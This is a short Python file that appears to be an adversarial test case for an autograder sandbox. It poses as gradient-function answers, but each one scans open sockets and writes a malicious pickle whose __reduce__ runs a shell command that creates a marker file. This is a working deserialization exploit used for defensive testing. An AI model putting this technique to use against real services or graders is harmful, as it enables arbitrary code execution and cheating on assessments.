# attack: write a malicious pickle instead of a frame to the grader's socket
# asset: machine
# channel: wire
# beats otter: 11
# expect: crashed
# place: after
import os
import pickle
import stat


class Exploit:
    def __reduce__(self):
        return os.system, ("touch @COURSE@/ESCAPED",)


def attack(*args):
    for descriptor in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, pickle.dumps(Exploit()))
        except OSError:
            pass


product_gradients = mse_gradients = neuron_gradients = neuron_batch_gradients = (
    two_layer_gradients
) = attack
